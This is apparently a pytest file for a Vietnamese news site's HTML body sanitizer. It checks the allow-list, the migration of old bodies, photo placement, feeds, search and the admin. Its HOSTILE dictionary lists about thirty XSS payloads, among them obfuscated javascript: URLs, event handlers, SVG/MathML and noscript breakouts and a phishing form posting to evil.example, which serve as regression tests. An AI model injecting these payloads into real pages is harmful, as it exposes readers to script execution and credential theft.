"""Rich article bodies (articles/richtext/): the allow-list, the conversion of old
bodies, photos placed in the body, and the body on every surface: page, feed,
JSON-LD, search, sitemap and the admin. Browser flows: tests/browser/test_rich_body.py."""
import html
import json
import re
import xml.etree.ElementTree as ET
from html.parser import HTMLParser

import pytest
from django.contrib.sites.models import Site
from django.db import connection
from django.db.migrations.executor import MigrationExecutor

from articles.imports import ndjson
from articles.imports.plaintext import parse_article
from articles.models import Article
from articles.newsroom import revisions
from articles.richtext import convert, plain, sanitize
from devtools.samples import CONTENT_DIR, FOUNDING_ARTICLE
from tests.factories import ArticleFactory, PhotoFactory, UserFactory, hanoi, placements
from tests.test_admin import form_data, login
from tests.test_concurrent_edits import opened

WORD = "kiemthuhtml"
CONTENT = "{http://purl.org/rss/1.0/modules/content/}encoded"
ADMIN = "/admin/articles/article/"

# What strangers, old CMSes and careless pastes send. Each is wrapped in an
# ordinary paragraph that holds WORD, so that the article is found and shown.
HOSTILE = {
    "script": '<script>alert("x")</script>',
    "script-upper": "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "img-onerror": '<img src=x onerror="alert(1)">',
    "body-onload": "<body onload=alert(1)>",
    "every-on": '<p onclick="a()" onmouseover="b()" onfocus="c()" ONLOAD="d()">chữ</p>',
    "a-javascript": '<a href="javascript:alert(1)">bấm</a>',
    "a-javascript-entity": '<a href="jav&#x61;script&#58;alert(1)">bấm</a>',
    "a-javascript-tab": '<a href="java\tscript:alert(1)">bấm</a>',
    "a-javascript-case": '<a href="JaVaScRiPt:alert(1)">bấm</a>',
    "a-vbscript": '<a href="vbscript:msgbox(1)">bấm</a>',
    "a-data": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">bấm</a>',
    "img-data": '<img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=">',
    "img-srcset": '<img srcset="javascript:alert(1) 1x, data:image/png;base64,AA 2x">',
    "formaction": '<form><button formaction="javascript:alert(1)">gửi</button></form>',
    "form": '<form action="https://evil.example/"><input name="mk" type="password"><input type=submit></form>',
    "iframe": '<iframe src="https://evil.example/"></iframe>',
    "iframe-srcdoc": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "object": '<object data="javascript:alert(1)"></object>',
    "embed": '<embed src="javascript:alert(1)">',
    "svg": '<svg onload="alert(1)"><script>alert(1)</script><a xlink:href="javascript:alert(1)">s</a></svg>',
    "math": '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
    "style-element": "<style>body{background:url(javascript:alert(1))}</style>",
    "style-attribute": '<p style="background:url(javascript:alert(1));color:red">chữ</p>',
    "base": '<base href="https://evil.example/">',
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "link-stylesheet": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "comment-breakout": "<!--<script>alert(1)</script>-->",
    "unclosed": "<p><strong>đậm <em>nghiêng <a href='https://example.com/'>liên kết",
    "misnested": "<strong><p>a</strong></p><em><li>b</em>",
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "noscript": "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "template": "<template><script>alert(1)</script></template>",
}
FORBIDDEN_TAGS = {
    "script", "iframe", "object", "embed", "svg", "math", "style", "base", "meta", "form", "input", "button",
    "link", "img", "noscript", "template",
}
URL_ATTRIBUTES = {"href", "src", "srcset", "action", "formaction", "data", "xlink:href", "poster", "content"}


def hostile_body(payload):
    return f"<p>Mở đầu {WORD}.</p>{payload}<p>Kết thúc an toàn.</p>"


class Elements(HTMLParser):
    """Every element and attribute inside the element with class `within` (all if None)."""

    def __init__(self, within=None):
        super().__init__(convert_charrefs=True)
        self.within, self.depth, self.found = within, 0 if within else 1, []

    def handle_starttag(self, tag, attrs):
        classes = (dict(attrs).get("class") or "").split()
        if self.depth:
            self.depth += tag not in ("br", "img", "source", "meta", "link", "input")
            self.found.append((tag, attrs))
        elif self.within in classes:
            self.depth = 1

    def handle_startendtag(self, tag, attrs):
        if self.depth:
            self.found.append((tag, attrs))

    def handle_endtag(self, tag):
        if self.depth and self.within:
            self.depth -= 1


def elements(content, within=None):
    parser = Elements(within)
    parser.feed(content)
    parser.close()
    return parser.found


def assert_inert(content, where, within=None, allow=frozenset()):
    """No forbidden element, no event handler, no style, no script-bearing URL."""
    for tag, attrs in elements(content, within):
        assert tag not in FORBIDDEN_TAGS - allow, f"{where}: <{tag} {attrs}>"
        for name, value in attrs:
            name = name.lower()
            assert not name.startswith("on"), f"{where}: <{tag} {name}={value!r}>"
            assert name != "style" or tag in allow, f"{where}: <{tag} style={value!r}>"
            if name in URL_ATTRIBUTES and value:
                squeezed = re.sub(r"[\s\x00-\x1f]", "", html.unescape(value)).lower()
                assert not squeezed.startswith(("javascript:", "vbscript:", "data:")), f"{where}: <{tag} {name}={value!r}>"
                assert "evil.example" not in squeezed, f"{where}: <{tag} {name}={value!r}>"


def written(body, **fields):
    article = ArticleFactory(body=body, published_at=hanoi(2017, 2, 15, 9, 30), **fields)
    return Article.objects.get(pk=article.pk)


def feed_bodies(client, url="/rss/"):
    root = ET.fromstring(client.get(url).content)
    return [element.text or "" for element in root.iter(CONTENT)]


def json_ld(page):
    return json.loads(re.search(r'<script type="application/ld\+json">(.*?)</script>', page, re.S).group(1))


# --- the allow-list --------------------------------------------------------------------


def test_what_the_editor_writes_is_kept_as_it_is():
    body = (
        "<h2>Tiêu đề phụ</h2><h3>Mục nhỏ</h3><p>Có <strong>chữ đậm</strong>, <em>nghiêng</em> và "
        '<a href="https://antd.vn/bai-cu.html" rel="noopener noreferrer">liên kết</a>.<br>Dòng mới.</p>'
        "<blockquote><p>Lời trích dẫn.</p></blockquote><ul><li><p>Biện pháp một</p></li></ul>"
        "<ol><li><p>Bước một</p></li></ol>"
        '<table><tbody><tr><th colspan="2" rowspan="1"><p>Cột</p></th></tr><tr><td><p>Ô</p></td></tr></tbody></table>'
        '<figure data-photo="12"></figure>'
        '<p><a href="/2017/02/15/doi-moi/" data-article="7" rel="noopener noreferrer">Xem thêm</a></p>'
    )
    cleaned = sanitize.clean(body)
    assert (cleaned.html, cleaned.dropped) == (body, ())


def test_old_spellings_become_the_allowed_elements():
    cleaned = sanitize.clean("<h1>Một</h1><h4>Hai</h4><p><b>đậm</b> <i>nghiêng</i></p>")
    assert cleaned.html == "<h2>Một</h2><h3>Hai</h3><p><strong>đậm</strong> <em>nghiêng</em></p>"


def test_a_paste_from_word_keeps_its_structure_and_loses_its_styling():
    word = (
        '<div class="WordSection1"><h2 style="mso-margin-top-alt:auto"><span lang="VI">Tiêu đề</span></h2>'
        '<p class="MsoNormal" style="font-family:Times New Roman"><b><span style="color:red">Đậm</span></b>'
        '<font face="Arial"> thường</font><o:p></o:p></p><ul><li class="x" style="y">Ý một</li></ul></div>'
    )
    cleaned = sanitize.clean(word)
    assert cleaned.html == "<h2>Tiêu đề</h2><p><strong>Đậm</strong> thường</p><ul><li>Ý một</li></ul>"
    assert "thuộc tính class, face, lang, style" in cleaned.dropped
    assert any("<span>" in what and "<font>" in what for what in cleaned.dropped)


def test_placeholders_stand_between_blocks_and_name_only_allowed_photos():
    body = ('<figure data-photo="1"><img src="x"><figcaption>chú thích</figcaption></figure>'
            '<ul><li><figure data-photo="2"></figure>mục</li></ul><figure data-photo="3"></figure>'
            '<figure>không ảnh</figure><figure data-photo="x1"></figure>')
    assert sanitize.clean(body, photos={1, 2}).html == '<figure data-photo="1"></figure><ul><li>mục</li></ul>'


def test_a_body_without_markup_is_paragraphs_and_loose_text_gets_one():
    assert sanitize.clean("Một & hai.\r\n\r\nBa < bốn.").html == "<p>Một &amp; hai.</p><p>Ba &lt; bốn.</p>"
    assert sanitize.clean("Lẻ <b>đậm</b><p>Đoạn.</p>đuôi").html == "<p>Lẻ <strong>đậm</strong></p><p>Đoạn.</p><p>đuôi</p>"


@pytest.mark.parametrize("payload", HOSTILE.values(), ids=HOSTILE.keys())
def test_the_allow_list_leaves_nothing_that_runs(payload):
    cleaned = sanitize.clean(hostile_body(payload)).html
    assert_inert(cleaned, "clean")
    assert sanitize.clean(cleaned).html == cleaned, "cleaning twice changes nothing"
    assert "alert" not in plain.to_text(cleaned) or "&lt;script&gt;" in cleaned  # only as the article's own text


@pytest.mark.django_db
def test_the_sql_words_of_a_body_are_the_python_words():
    """Search reads articles_body_text (SQL, migration 0011), JSON-LD reads plain.to_text."""
    body = sanitize.clean(
        '<h2>Tiêu đề</h2><p>Chữ <strong>đậm</strong>trong&nbsp;câu, <a href="https://x.vn/">liên kết</a> &amp; '
        "&lt;thẻ&gt;</p><ul><li>mục một</li><li>mục hai</li></ul>"
        '<table><tbody><tr><td>ô một</td><td>ô hai</td></tr></tbody></table><figure data-photo="3"></figure>'
    ).html
    with connection.cursor() as cursor:
        cursor.execute("SELECT articles_body_text(%s), pg_get_functiondef('articles_body_text(text)'::regprocedure)",
                       [body])
        words, definition = cursor.fetchone()
    assert words.split() == plain.to_text(body).replace("\u00a0", " ").split()
    spelled = re.search(r"</\?\(([a-z0-9|]+)\)", definition).group(1).split("|")
    assert set(spelled) == set(sanitize.BLOCKS) | {"br"}


# --- the conversion of old bodies (migration 0011) -----------------------------------------


@pytest.mark.django_db(transaction=True)
def test_the_conversion_keeps_the_founding_article_whole_and_in_order(client):
    parsed = parse_article((CONTENT_DIR / f"{FOUNDING_ARTICLE}.txt").read_text(encoding="utf-8"))
    executor = MigrationExecutor(connection)
    leaves = executor.loader.graph.leaf_nodes("articles")
    executor.migrate([("articles", "0010_newsroom")])
    with connection.cursor() as cursor:
        cursor.execute(
            "INSERT INTO articles_article (title, slug, lead, body, status, published_at, author, source,"
            " created_at, updated_at) VALUES (%s, 'doi-moi', %s, %s, 'published', %s, '', 'ANTD.VN', now(), now())"
            " RETURNING id",
            [parsed.title, parsed.lead, "\n\n".join(parsed.paragraphs), hanoi(2017, 2, 15, 17, 30)],
        )
        article_id = cursor.fetchone()[0]
        for position, caption in parsed.captions:
            cursor.execute("INSERT INTO articles_photo (article_id, image, caption, credit, alt_text, position,"
                           " renditions, source_digest) VALUES (%s, '', %s, '', '', %s, '{}', '')",
                           [article_id, caption, position])
    executor = MigrationExecutor(connection)
    executor.migrate(leaves)

    article = Article.objects.get(pk=article_id)
    assert article.paragraphs() == parsed.paragraphs
    assert [(before, photo.caption) for before, photo in placements(article)] == parsed.captions
    page = client.get(article.get_absolute_url()).content.decode()
    blocks = [(tag, attrs) for tag, attrs in elements(page, "story-body") if tag in ("p", "figure", "figcaption")]
    shape = "".join("F" if tag == "figure" else "P" for tag, _ in blocks if tag != "figcaption")
    assert shape == "PP" + "F" + "PPP" + "F" + "P" * (len(parsed.paragraphs) - 5)
    story = page[page.index('class="story-body"'):page.index('class="byline"')]
    for paragraph in parsed.paragraphs:
        # The same text; a no-break space is now written as the entity (the same character).
        assert f"<p>{html.escape(paragraph, quote=False)}</p>".replace("\u00a0", "&nbsp;") in story
    for _, caption in parsed.captions:
        assert caption in story
    # Its history was converted too (each photo inserted above made a revision), and
    # the conversion itself made none: nothing changed that a reader could see.
    history = list(article.revisions.order_by("id"))
    assert len(history) == 1 + len(parsed.captions)
    assert history[-1].content["body"] == article.body
    assert all(r.content["body"].startswith("<p>") and "position" not in str(r.content["photos"]) for r in history)


def test_plain_paragraphs_and_their_photos_become_the_stored_form():
    assert convert.from_paragraphs(["Một", "Hai"], [(1, 5), (9, 6), (0, 4)]) == (
        '<figure data-photo="4"></figure><p>Một</p><figure data-photo="5"></figure><p>Hai</p>'
        '<figure data-photo="6"></figure>'
    )


# --- photos in the body -----------------------------------------------------------------------


@pytest.mark.django_db
def test_photos_stand_where_the_body_places_them_and_unplaced_ones_after_it(client):
    article = written("<p>Một.</p><p>Hai.</p><p>Ba.</p>")
    placed = PhotoFactory(article=article, caption="Ảnh đặt giữa", position=1)
    PhotoFactory(article=article, caption="Ảnh chưa đặt", position=None)
    page = client.get(article.get_absolute_url()).content.decode()
    story = page[page.index('class="story-body"'):]
    order = [m.group(0) for m in re.finditer(r"<p>(Một|Hai|Ba)\.</p>|<figcaption>Ảnh (đặt giữa|chưa đặt)", story)]
    assert order == ["<p>Một.</p>", "<figcaption>Ảnh đặt giữa", "<p>Hai.</p>", "<p>Ba.</p>",
                     "<figcaption>Ảnh chưa đặt"]
    assert placed.pk in [p.pk for _, p in placements(article)]


@pytest.mark.django_db
def test_the_form_says_which_photos_are_not_placed_and_what_the_allow_list_dropped(client, editor):
    article = written("<p>Một.</p>", status=Article.Status.DRAFT)
    PhotoFactory(article=article, caption="Ảnh chưa đặt", position=None)
    login(client, editor)
    data = {**opened(client, article), "body": '<p onclick="x()">Một <span style="color:red">đỏ</span>.</p>'}
    response = client.post(f"{ADMIN}{article.pk}/change/", data, follow=True)
    messages = [str(m) for m in response.context["messages"]]
    assert "Nội dung đã được làm sạch: đã bỏ thẻ <span>." in messages
    assert "Nội dung đã được làm sạch: đã bỏ thuộc tính onclick, style." in messages
    assert any(m.startswith("Ảnh chưa đặt vào nội dung: “Ảnh chưa đặt”") for m in messages)
    assert Article.objects.get(pk=article.pk).body == "<p>Một đỏ.</p>"


@pytest.mark.django_db
def test_a_body_may_not_place_another_articles_photo_nor_be_empty(client, editor):
    other = PhotoFactory(article=written("<p>Bài khác.</p>"), position=None)
    article = written("<p>Một.</p>", status=Article.Status.DRAFT)
    login(client, editor)
    data = {**opened(client, article), "body": f'<p>Một.</p><figure data-photo="{other.pk}"></figure>'}
    client.post(f"{ADMIN}{article.pk}/change/", data)
    assert Article.objects.get(pk=article.pk).body == "<p>Một.</p>"
    response = client.post(f"{ADMIN}{article.pk}/change/", {**opened(client, article), "body": "<p> </p><p><br></p>"})
    assert response.status_code == 200
    assert "Nội dung bài đang trống." in response.content.decode()


# --- links ---------------------------------------------------------------------------------------


@pytest.mark.django_db
def test_external_links_are_guarded_and_internal_ones_follow_a_moved_article(client):
    target = written("<p>Bài được dẫn.</p>", title="Bài cũ được dẫn")
    old_url = target.get_absolute_url()
    article = written(f'<p><a href="{old_url}" data-article="{target.pk}">Xem thêm</a> và '
                      '<a href="https://baochinhphu.vn/">báo khác</a>.</p>')
    page = client.get(article.get_absolute_url()).content.decode()
    links = {dict(attrs)["href"]: dict(attrs) for tag, attrs in elements(page, "story-body") if tag == "a"}
    assert links["https://baochinhphu.vn/"]["rel"] == "noopener noreferrer"
    assert links[old_url]["data-article"] == str(target.pk)
    target.title, target.slug = "Bài được dẫn đã đổi tên", ""
    target.save()
    assert target.get_absolute_url() != old_url
    response = client.get(old_url)
    assert (response.status_code, response["Location"]) == (301, target.get_absolute_url())


# --- search -----------------------------------------------------------------------------------------


@pytest.mark.django_db
def test_search_finds_words_in_bold_in_a_link_and_in_a_table_but_not_tag_names(client):
    article = written(
        '<p>Vụ <strong>buôn lậu</strong> tại <a href="https://example.com/cuakhau">cửa khẩu</a>.</p>'
        "<table><tbody><tr><td>Tang vật</td><td>pháo nổ</td></tr></tbody></table>"
    )
    for query in ("buon lau", "cua khau", "phao no"):
        page = client.get("/tim-kiem/", {"q": query}).content.decode()
        assert article.get_absolute_url() in page, query
        snippet = re.search(r'<p class="snippet">(.*?)</p>', page, re.S).group(1)
        assert not re.search(r"<(?!/?mark>)", snippet), snippet
    for query in ("strong", "href", "noopener", "example", "cuakhau", "td", "tbody"):
        page = client.get("/tim-kiem/", {"q": query}).content.decode()
        assert article.get_absolute_url() not in page, query


# --- feeds and JSON-LD -------------------------------------------------------------------------------


@pytest.mark.django_db
def test_feeds_carry_the_body_and_json_ld_its_words(client):
    article = written('<h2>Diễn biến</h2><p>Lực lượng <strong>chức năng</strong> <a href="/2017/02/14/x/">'
                      "xem thêm</a>.</p><blockquote><p>Trích lời.</p></blockquote>")
    photo = PhotoFactory(article=article, caption="Ảnh hiện trường", position=2)
    [body] = feed_bodies(client)
    site = "http://" + Site.objects.get_current().domain
    assert body.startswith("<h2>Diễn biến</h2><p>Lực lượng <strong>chức năng</strong> "
                           f'<a href="{site}/2017/02/14/x/" rel="noopener noreferrer">xem thêm</a>.</p><figure>')
    figure = re.search(r"<figure>(.*?)</figure>", body).group(1)
    assert re.match(rf'<img src="{site}/media/[^"]+" alt="Ảnh hiện trường"><figcaption>Ảnh hiện trường', figure), figure
    assert body.index("<figure>") < body.index("<blockquote>")
    data = json_ld(client.get(article.get_absolute_url()).content.decode())
    assert data["articleBody"] == "Diễn biến\n\nLực lượng chức năng xem thêm.\n\nTrích lời."
    assert photo.caption not in data["articleBody"]


# --- the hostile corpus on every surface ----------------------------------------------------------------


def ndjson_line(key, body_html):
    return json.dumps({"id": key, "title": f"Bài {key} {WORD}", "sapo": "Sapo.", "body_html": body_html,
                       "published_at": "2017-02-15T09:30:00+07:00"}, ensure_ascii=False)


@pytest.mark.django_db(transaction=True)  # the importer writes on connections of its own
def test_body_html_is_reduced_and_what_went_is_a_warning_with_its_line(tmp_path):
    path = tmp_path / "cms.ndjson"
    path.write_text("\n".join([
        ndjson_line("sach", "<p>Sạch <strong>đậm</strong>.</p>"),
        ndjson_line("ban", hostile_body(HOSTILE["iframe"] + HOSTILE["style-attribute"])),
        json.dumps({"id": "ca-hai", "title": "Hai thân bài", "body": "Chữ.", "body_html": "<p>Chữ.</p>"}),
        json.dumps({"id": "sai-kieu", "title": "Sai kiểu", "body_html": ["<p>x</p>"]}),
    ]) + "\n", encoding="utf-8")
    report = ndjson.import_file(path)
    assert (report.added, report.errors) == (2, [
        (3, "chỉ dùng một trong hai: body hoặc body_html."), (4, "body_html phải là một chuỗi."),
    ])
    assert report.warnings == [(2, "body_html: đã bỏ thẻ <iframe>."), (2, "body_html: đã bỏ thuộc tính src, style.")]
    assert Article.objects.get(external_id="sach").body == "<p>Sạch <strong>đậm</strong>.</p>"
    assert Article.objects.get(external_id="ban").paragraphs() == [f"Mở đầu {WORD}.", "chữ", "Kết thúc an toàn."]


@pytest.mark.django_db(transaction=True)  # the importer writes on connections of its own
def test_no_hostile_body_survives_on_any_surface(client, tmp_path):
    """Every payload, through the editor's save (the admin form) and through NDJSON
    body_html; then the page, the feeds, JSON-LD, the search snippet, the sitemap,
    and the admin's form, history and revision pages."""
    # A superuser: a transactional test's flush leaves no newsroom groups behind.
    login(client, UserFactory(is_staff=True, is_superuser=True))
    saved = []
    for key, payload in HOSTILE.items():
        data = form_data(title=f"Bài {key} {WORD}", body=hostile_body(payload), status="published",
                         published_at_0="15/02/2017", published_at_1=f"09:{len(saved):02d}")
        response = client.post(f"{ADMIN}add/", data)
        assert response.status_code == 302, (key, response.content.decode()[:500])
        saved.append(Article.objects.get(title=f"Bài {key} {WORD}"))
    path = tmp_path / "cms.ndjson"
    path.write_text("\n".join(ndjson_line(f"nd-{key}", hostile_body(p)) for key, p in HOSTILE.items()) + "\n",
                    encoding="utf-8")
    report = ndjson.import_file(path)
    assert (report.added, report.errors) == (len(HOSTILE), [])
    saved += list(Article.objects.filter(external_id__startswith="nd-"))
    revisions.record_pending()

    for article in saved:
        assert_inert(article.body, f"stored {article.title}")
        admin_pages = [f"{ADMIN}{article.pk}/change/", f"{ADMIN}{article.pk}/history/"]
        revision = article.revisions.first()
        admin_pages.append(f"{ADMIN}{article.pk}/history/{revision.pk}/")
        for url in admin_pages:
            response = client.get(url)
            assert response.status_code == 200, url
            # The admin's own scripts (with src) and forms stay; nothing of the body runs.
            assert_inert(response.content.decode(), url, allow={"script", "form", "input", "button", "meta",
                                                                "link", "img", "style", "svg"})
            assert not [attrs for tag, attrs in elements(response.content.decode()) if tag == "script"
                        and not dict(attrs).get("src", "").startswith(("/static/", "/admin/jsi18n/"))], url

    client.logout()
    for article in saved:
        page = client.get(article.get_absolute_url()).content.decode()
        assert_inert(page, article.get_absolute_url(), within="story-body")
        # The page around the story: its own search form and JSON-LD, nothing of the body.
        assert_inert(page, article.get_absolute_url(), allow={"script", "meta", "link", "img", "form", "input",
                                                              "button"})
        assert f"Mở đầu {WORD}." in page and "Kết thúc an toàn." in page
        assert "alert" not in json_ld(page)["articleBody"] or "&lt;script" in article.body
    for url in ("/rss/",):
        for body in feed_bodies(client, url):
            assert_inert(body, "content:encoded")
    search = client.get("/tim-kiem/", {"q": WORD}).content.decode()
    for snippet in re.findall(r'<p class="snippet">(.*?)</p>', search, re.S):
        assert not re.search(r"<(?!/?mark>)", snippet), snippet
    for url in ("/sitemap.xml", "/sitemap-articles.xml", "/sitemap-news.xml"):
        response = client.get(url)
        assert response.status_code == 200, url
        assert_inert(response.content.decode(), url)


@pytest.mark.django_db
def test_who_may_only_read_a_published_article_reads_its_body_not_its_markup(client, reporter):
    article = written('<p>Có <strong>chữ đậm</strong>.</p><p onclick="x()">Hai.</p>')
    response = login(client, reporter).get(f"{ADMIN}{article.pk}/change/")
    assert response.status_code == 200
    page = response.content.decode()
    assert "<p>Có <strong>chữ đậm</strong>.</p>" in page and "&lt;strong&gt;" not in page
    assert 'name="body"' not in page  # nothing to submit
